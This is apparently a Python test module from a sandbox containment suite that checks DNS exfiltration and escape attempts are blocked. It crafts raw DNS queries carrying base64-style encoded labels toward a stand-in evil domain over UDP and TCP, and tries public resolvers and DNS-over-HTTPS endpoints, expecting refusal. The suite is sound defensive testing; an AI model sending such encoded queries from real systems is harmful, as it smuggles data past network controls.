"""Attacks on names: a question that carries data out, or that is put to somebody else."""

import socket
import struct

from hutch_launchers.contract.attacks.asking import BELOW, EVIL, GRANTED, by_connect, by_uri, refused
from hutch_launchers.contract.attacks.inside import Contained, Missed, attack

_OURS = ("127.0.0.53", 53)
_KINDS = {
    "A": 1,
    "NS": 2,
    "CNAME": 5,
    "PTR": 12,
    "MX": 15,
    "TXT": 16,
    "AAAA": 28,
    "SRV": 33,
    "HTTPS": 65,
    "ANY": 255,
}


def _question(name: str, kind: int = 1, flags: int = 0x0100) -> bytes:
    labels = b"".join(bytes([len(one)]) + one for one in name.encode("latin-1").split(b"."))
    return struct.pack(">HHHHHH", 7, flags, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def _answers(data: bytes, where: tuple[str, int] = _OURS, *, tcp: bool = False) -> int:
    """How many answers a question gets; 0: none, or nobody is there."""
    try:
        with socket.socket(type=socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
            s.settimeout(3)
            s.connect(where)
            s.sendall(struct.pack(">H", len(data)) + data if tcp else data)
            got = s.recv(2048)[2 if tcp else 0 :]
    except OSError:
        return 0
    return int(struct.unpack(">H", got[6:8])[0]) if len(got) > 8 else 0


@attack("network/own-names")
def names_that_are_not_granted() -> None:
    names = (EVIL, f"{GRANTED}.{EVIL}", f"evil.{GRANTED}", "c2VjcmV0." * 20 + EVIL, "denied.cdn.example.org")
    asked = {f"{name} {kind}": _question(name, n) for name in names for kind, n in _KINDS.items()}
    refused({name: _answers(data) for name, data in asked.items()}, 0)


@attack("network/own-names")
def questions_that_carry_data() -> None:
    data = "ZXZpbA.evil." + BELOW
    kinds = {kind: n for kind, n in _KINDS.items() if kind not in ("A", "ANY")}
    seen = {kind: _answers(_question(data, n)) for kind, n in kinds.items()}
    seen["by TCP"] = _answers(_question(data, 16), tcp=True)
    refused(seen, 0)


@attack("network/own-names")
def by_the_systems_own_resolver() -> None:
    for name in (EVIL, f"{GRANTED}.{EVIL}", "localhost.evil.example.net", "dns.google"):
        try:
            found = socket.getaddrinfo(name, 443)
        except OSError:
            continue
        raise Missed(f"{name}: {found[0][4]}")
    raise Contained("no such name is known")


@attack("network/own-names")
def name_servers_of_others() -> None:
    places = [(address, 53) for address in ("1.1.1.1", "8.8.8.8", "127.0.0.1", "127.0.0.11", "10.0.0.2")]
    asked = _question("example.com")
    seen = {f"{where} UDP": _answers(asked, where) for where in places}
    refused({**seen, **{f"{where} TCP": _answers(asked, where, tcp=True) for where in places}}, 0)


@attack("network/own-names")
def by_tls_or_https() -> None:
    hosts = (
        "dns.google",
        "cloudflare-dns.com",
        "dns.quad9.net",
        "1.1.1.1",
        "8.8.8.8",
        "[2606:4700:4700::1111]",
    )
    seen = {
        f"{host}:{port}": by_connect(f"{host}:{port}".encode()) for host in hosts for port in (443, 853, 53)
    }
    seen["in a URI"] = by_uri(b"http://dns.google/resolve?name=evil.example.net")
    refused(seen, 400, 403)
